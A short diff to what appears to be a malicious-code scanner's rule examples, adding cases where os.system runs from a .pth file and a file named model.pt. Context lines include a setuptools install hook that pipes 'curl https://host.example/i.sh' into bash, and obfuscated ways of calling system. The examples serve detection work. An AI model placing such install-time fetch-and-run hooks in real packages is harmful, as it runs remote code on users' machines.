@@ -12,6 +12,8 @@ export const examples: RuleExamples = {
     py(
       'from setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system("curl https://host.example/i.sh | bash")',
     ),
+    py('import os; os.system("echo x")', 'distutils-precedence.pth'),
+    py('# weights\nimport os\nos.system("echo x")', 'model.pt'),
     py('from os import *\nsystem("echo x")'),
     py('getattr(__import__("o" + "s"), "sys" + "tem")("echo x")'),
     py('import os\ndef f(x=os.system("echo x")):\n    pass'),
